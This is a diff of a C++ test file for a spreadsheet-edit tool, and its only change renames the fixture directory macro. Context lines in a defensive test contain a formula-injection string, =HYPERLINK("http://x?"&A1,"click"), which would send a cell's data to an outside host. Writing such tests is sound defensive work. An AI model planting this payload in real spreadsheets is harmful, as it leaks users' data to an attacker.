@@ -86,7 +86,7 @@ protected:
 TEST_F(engineers_edits, each_edit_does_what_was_meant_or_is_refused_and_the_project_always_loads)
 {
     const ds_test::run_result made =
-        ds_test::run_program("/usr/bin/python3", {DS_TEST_DATA_DIR "/spreadsheet_clients/engineers_edits.py", m_dir.string()}, m_dir);
+        ds_test::run_program("/usr/bin/python3", {DS_FIXTURES_DIR "/spreadsheet_clients/engineers_edits.py", m_dir.string()}, m_dir);
     ASSERT_EQ(made.exit_code, 0) << made.err;
     const std::string choices = "needs one of the choices";
     const edit_case cases[] = {
@@ -159,7 +159,7 @@ TEST_F(engineers_edits, each_edit_does_what_was_meant_or_is_refused_and_the_proj
 TEST_F(engineers_edits, hostile_texts_are_neutralised_and_foreign_files_not_quoted)
 {
     const ds_test::run_result made =
-        ds_test::run_program("/usr/bin/python3", {DS_TEST_DATA_DIR "/spreadsheet_clients/engineers_edits.py", m_dir.string()}, m_dir);
+        ds_test::run_program("/usr/bin/python3", {DS_FIXTURES_DIR "/spreadsheet_clients/engineers_edits.py", m_dir.string()}, m_dir);
     ASSERT_EQ(made.exit_code, 0) << made.err;
     const std::string formula = "=HYPERLINK(\"http://x?\"&A1,\"click\")";
     check({"note_like_a_formula.xlsx", false, true, formula});
